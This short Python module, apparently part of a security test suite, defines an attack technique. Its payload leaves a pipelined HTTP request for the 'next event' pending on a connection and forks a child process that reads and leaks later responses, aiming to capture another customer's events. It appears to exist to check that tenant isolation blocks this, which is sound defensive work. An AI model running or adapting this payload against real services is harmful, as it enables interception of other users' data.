"""Leaves an unanswered request for the next event on a connection, and a child process that reads the answer."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.payloads import CLIENT
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    CLIENT
    + r"""
out = socket.create_connection(tuple(address.split(":")))
out.sendall(b"GET " + base.encode() + b"next HTTP/1.1\r\nHost: x\r\n\r\n")
out.recv(65536)
out.sendall(b"GET " + base.encode() + b"next HTTP/1.1\r\nHost: x\r\n\r\n")
if os.fork() == 0:
    end = time.time() + 4
    while time.time() < end:
        leak(out.recv(65536).decode(errors="replace"))
        out.sendall(b"GET " + base.encode() + b"next HTTP/1.1\r\nHost: x\r\n\r\n")
    os._exit(0)
"""
)

TECHNIQUE = Technique(
    level="L2",
    attack=("T1557", "T1574"),
    family="M5",
    must_fail_to="receive a later customer's event",
    plant=PLANT,
    evidence=Cards(),
    ends_window=True,
    process="may reach",
    timeout_s=3,
    spoils=True,
)
